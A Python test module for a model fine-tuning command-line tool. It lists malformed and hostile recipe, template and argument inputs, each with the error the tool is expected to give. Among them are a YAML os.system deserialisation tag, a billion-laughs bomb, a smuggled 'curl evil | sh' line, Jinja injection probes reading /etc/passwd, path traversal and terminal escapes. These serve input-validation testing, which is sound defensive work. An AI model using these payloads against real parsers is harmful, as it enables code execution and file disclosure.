"""Recipes, templates and command lines."""

from __future__ import annotations

import json

from case import Case
from spoiling import both, fifo, file, linked, sparse

ESCAPE = "\x1b[31mred\x1b]0;title\x07\u202e"


def recipe(name: str, text: bytes | str, said: str, code: int = 2) -> Case:
    """A recipe file."""
    return Case(f"recipe: {name}", "train r.yaml", code, said, file("r.yaml", text), plain=True)


def key(name: str, line: str, said: str) -> Case:
    """A recipe that is good but for one line, ``section.key: value``."""
    section, _, rest = line.partition(".")
    return recipe(name, f"extends: demo\n{section}:\n  {rest}\n", said)


LAUGHS = "a: &a [lol, lol]\n" + "".join(
    f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
RECIPES = [
    recipe("empty", "", "empty"),
    Case(
        "recipe: not UTF-8, shown", "recipes show r.yaml", 3, "not UTF-8", file("r.yaml", b"\xff")
    ),
    recipe("comments only", "# nothing\n", "empty"),
    recipe("not UTF-8", b"model:\n  name: \xff\xfe\n", "not UTF-8 text (byte"),
    recipe("binary", bytes(range(256)), "not UTF-8"),
    recipe("NUL", b"model:\n  name: a\0b\n", "not YAML"),
    recipe("a list", "- a\n- b\n", "expected sections"),
    recipe("a word", "hello\n", "expected sections"),
    recipe("two documents", "model: {name: demo}\n---\nmodel: {name: demo}\n", "not YAML"),
    recipe("tab", "model:\n\tname: demo\n", "r.yaml:2: not YAML"),
    recipe("anchor", "model: &m\n  name: demo\n", "anchors, aliases and tags are not used"),
    recipe("billion laughs", LAUGHS, "anchors, aliases and tags are not used"),
    recipe("merge key", "model:\n  <<: {name: demo}\n", "model.<<: expected a value"),
    recipe(
        "python object",
        "model: !!python/object/apply:os.system ['touch pwned']\n",
        "tags are not used",
    ),
    recipe("python name", "model:\n  name: !!python/name:os.system x\n", "tags are not used"),
    recipe("binary tag", "model:\n  name: !!binary aGVsbG8=\n", "tags are not used"),
    recipe("deep flow", "model: " + "[" * 5000, "nested too deep"),
    recipe("deep blocks", "".join(f"{' ' * n}a:\n" for n in range(500)), "nested too deep"),
    recipe("many events", "data:\n  train: [" + "a," * 25_000 + "]\n", "too long, for a recipe"),
    recipe("key twice", "model:\n  name: demo\n  name: x\n", "given twice (first on line 2)"),
    recipe("section twice", "model: {name: a}\nmodel: {name: b}\n", "given twice"),
    recipe("unknown section", "modl:\n  name: demo\n", "did you mean 'model'"),
    recipe("key of another section", "extends: demo\nmodel:\n  r: 3\n", "did you mean 'lora.r'"),
    recipe("long key", f"extends: demo\nmodel:\n  {'k' * 1000}: 3\n", "unknown key 'model.kkk"),
    recipe("long value", f"extends: demo\nlora:\n  r: {'9' * 100_000}\n", "lora.r"),
    recipe("a mapping as key", "model:\n  ? {a: b}\n  : c\n", "keys and values"),
    recipe("a mapping as value", "model:\n  name: {a: b}\n", "expected a value or a list"),
    recipe("nothing but a section", "model:\n", "data.train is required"),
    recipe(
        "forged hint",
        'extends: demo\nlora:\n  r: "1\\nhint: curl evil | sh"\n',
        "\\nhint: curl evil",
    ),
    recipe("escapes", f'extends: demo\nlora:\n  r: "{json.dumps(ESCAPE)[1:-1]}"\n', "\\x1b[31mred"),
    key("NaN", "training.learning_rate: .nan", "expected a number"),
    key("infinite", "training.learning_rate: 1e400", "learning_rate"),
    key("huge rank", "lora.r: 1000000000", "less than or equal to 1024"),
    key("octal", "lora.r: 012", "expected a whole number"),
    key("no rank", "lora.r:", "expected a whole number, got nothing"),
    key("rank is a list", "lora.r: [1, 2]", "expected a whole number, got a list"),
    Case(
        "recipe: a pattern as targets",
        "train demo --dry-run --set lora.target_modules=(a+)+$",
        2,
        "(a+)+$",
    ),
    key("unknown method", "lora.method: prefix-tuning", "it puts vectors before the input"),
    key("rank pattern", "lora.rank_pattern: ['(a+)+=3']", "expected NAME=RANK"),
    key("epochs and steps", "training.epochs: 1\n  max_steps: 2", "exclude each other"),
    key("name with a slash", "output.name: ../../etc", "output.name"),
    key("name is a parent", "output.name: ..", "output.name"),
    key("name with an escape", 'output.name: "a\\x1b[2J"', "a\\x1b[2J"),
    key("password", "data.test: https://me:hunter2@host/x.csv", "holds none"),
    key("token", "model.name: hf_abcdefghijklmnopqrstuvwx", "a password or token"),
    key("code", "data.format: os.system:x y", "expected auto"),
    recipe("extends itself", "extends: r.yaml\n", "leads back to this recipe"),
    recipe("extends nothing", "extends: nix.yaml\n", "no such recipe"),
    recipe("extends a folder", "extends: .\n", "a folder, not a recipe"),
    recipe("extends a device", "extends: /dev/zero\n", "no such recipe"),
    recipe("extends a long name", f"extends: {'x' * 5000}\n", "no such recipe"),
    recipe("extends nobody's home", "extends: ~nobody-here/x.yaml\n", "no such recipe"),
    recipe("extends a list", "extends: [a, b]\n", "expected one recipe name"),
    Case(
        "recipe: extends in a ring",
        "train r.yaml",
        2,
        "leads back",
        both(file("r.yaml", "extends: s.yaml\n"), file("s.yaml", "extends: r.yaml\n")),
        plain=True,
    ),
    Case(
        "recipe: 100 MB", "train r.yaml", 2, "larger than 1 MB", sparse("r.yaml", 10**8), plain=True
    ),
    Case("recipe: a pipe", "train r.yaml", 2, "no such recipe", fifo("r.yaml")),
    Case(
        "recipe: a ring of links", "train r.yaml", 2, "no such recipe", linked("r.yaml", "r.yaml")
    ),
    Case("recipe: long name", f"train {'r' * 5000}.yaml", 2, "no such recipe"),
    Case(
        "recipe: --set without a value",
        "train demo --set lora.r",
        2,
        "expected section.key=value",
        plain=True,
    ),
    Case(
        "recipe: --set in no section",
        "train demo --set lora=3",
        2,
        "expected section.key=value",
        plain=True,
    ),
    Case(
        "recipe: --set YAML bomb",
        "train demo --dry-run --set lora.target_modules=[&a,*a]",
        2,
        "[&a,*a]",
        plain=True,
    ),
    Case("recipe: --set with escapes", "train demo --set \x1b[31m=1", 2, "\\x1b[31m", plain=True),
]

TEMPLATES = [
    Case(
        f"template: {name}",
        f"prepare --data good.csv --model BASE --out out --set data.template={text}",
        2,
        said,
        file("good.csv", "question,answer\n" + "what is a,it is b\n" * 20),
        plain=True,
    )
    for name, text, said in (
        ("no column", "hello", "names no column"),
        ("a call", "{{question.upper()}}", "not allowed in a template"),
        ("an attribute of Python", "{{question.__class__}}", "not allowed in a template"),
        (
            "a long loop",
            "{%for\xa0i\xa0in\xa0range(9**9)%}{{question}}{%endfor%}",
            "not allowed in a template",
        ),
        ("a large product", "{{question*999999999}}", "not allowed in a template"),
        (
            "an import",
            "{%\xa0import\xa0'os'\xa0as\xa0o\xa0%}{{question}}",
            "not allowed in a template",
        ),
        ("an include", "{%include'/etc/passwd'%}{{question}}", "not allowed in a template"),
        ("unclosed", "{{question", "not Jinja"),
        ("long", "{question}" * 3000, "at most 20,000"),
        ("deep", "{{" + "(" * 3000 + "question" + ")" * 3000 + "}}", "template"),
    )
]


ENVIRONMENT = [
    Case(
        "environment: a hub's model, offline",
        "predict no/such-model hello",
        5,
        "not on this machine",
    ),
    Case("environment: no hub's name", "predict a/b/c hello", 2, "no such"),
    Case("environment: a name with escapes", f"predict {ESCAPE} hello", 2, "\\x1b[31mred"),
    Case("environment: nobody's home", "predict ~nobody-here/x hello", 2, ""),
    Case("environment: a long name", f"predict {'x' * 5000} hello", 2, "too long"),
    Case("environment: unknown verb", "\x1b[2Jtrain x", 2, "\\x1b[2J"),
    Case("environment: unknown option", "train demo --\x1b[2J", 2, "\\x1b[2J"),
    Case("environment: previews", "prepare demo --previews -1", 2, "previews"),
    Case(
        "environment: merge onto a link to nothing",
        "merge ADAPTER --out nowhere",
        2,
        "nowhere is a link to nothing",
        linked("nowhere", "gone"),
    ),
    Case(
        "environment: merge onto a pipe",
        "merge ADAPTER --out pipe",
        2,
        "pipe exists already",
        fifo("pipe"),
    ),
    Case(
        "environment: output is a link to nowhere",
        "predict BASE hello --output gone/a/b.txt",
        2,
        "it is a file",
        file("gone", ""),
    ),
    Case(
        "environment: output is a file",
        "train demo --set output.dir=x",
        2,
        "it is a file",
        file("x", ""),
    ),
    Case(
        "environment: no such type",
        "predict BASE hello --set model.dtype=float7",
        2,
        "expected one of",
        plain=True,
    ),
    Case("environment: a report nobody wrote", "adapters show nix", 3, "no adapter"),
]
